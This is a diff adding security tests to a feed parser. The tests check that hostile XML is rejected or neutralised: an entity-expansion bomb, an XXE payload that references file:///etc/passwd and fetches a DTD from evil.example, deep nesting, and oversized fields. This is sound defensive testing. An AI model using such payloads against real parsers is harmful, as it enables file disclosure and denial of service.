@@ -205,6 +205,59 @@ describe('parseFeed: not a feed', () => {
   });
 });
 
+describe('parseFeed: hostile documents', () => {
+  function code(fn: () => unknown): string | null {
+    try {
+      fn();
+      return null;
+    } catch (err) {
+      expect(err).toBeInstanceOf(NewsrelayError);
+      return (err as NewsrelayError).code;
+    }
+  }
+
+  it('refuses a flat repetition of a large entity before building it (it made a 200 M-character title)', () => {
+    const value = '中'.repeat(1000);
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "${value}">]><rss><channel><item><title>${'&a;'.repeat(200_000)}</title><link>https://x.cn/1</link></item></channel></rss>`;
+    expect(code(() => parseFeed(xml, {}))).toBe('entity_expansion');
+  });
+
+  it('still expands a moderate use of internal entities, and leaves nested ones inert', () => {
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY site "新华网"><!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><rss><channel><title>&site;</title><item><title>&site; ${'&site;'.repeat(100)} &lol2;</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.title).toBe('新华网');
+    expect(feed.entries[0]?.title?.startsWith('新华网 新华网新华网')).toBe(true);
+    expect(feed.entries[0]?.title?.endsWith('&lol;&lol;')).toBe(true);
+  });
+
+  it('never reads external entities', () => {
+    const xml = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss><channel><item><title>a&xxe;b</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.entries[0]?.title).toBe('a&xxe;b');
+  });
+
+  it('refuses nesting that would make the XML parser quadratic', () => {
+    const deep = `<rss><channel>${'<x>'.repeat(100_000)}</channel></rss>`;
+    expect(code(() => parseFeed(deep, {}))).toBe('too_deep');
+    const wide = `<rss><channel>${'<x>'.repeat(1999)}${'</nope>'.repeat(100_000)}</channel></rss>`;
+    expect(code(() => parseFeed(wide, {}))).toBe('too_deep');
+  });
+
+  it('cuts a megabyte field before processing it and counts it', () => {
+    const xml = `<rss><channel><item><title>${'长'.repeat(3_000_000)}</title><link>https://x.cn/1</link></item></channel></rss>`;
+    const feed = parseFeed(xml, {});
+    expect(feed.entries[0]?.title?.length).toBe(100_000);
+    expect(feed.clippedFields).toBe(1);
+    const json = JSON.stringify({
+      version: 'https://jsonfeed.org/version/1.1',
+      items: [{ id: '1', url: 'https://x.cn/1', title: '长'.repeat(3_000_000) }],
+    });
+    const jf = parseFeed(json, {});
+    expect(jf.entries[0]?.title?.length).toBe(100_000);
+    expect(jf.clippedFields).toBe(1);
+  });
+});
+
 describe('sniffDocument', () => {
   it('classifies documents', () => {
     expect(sniffDocument('\ufeff<?xml version="1.0"?>\n<!-- c --><rss version="2.0"/>', null)).toBe(
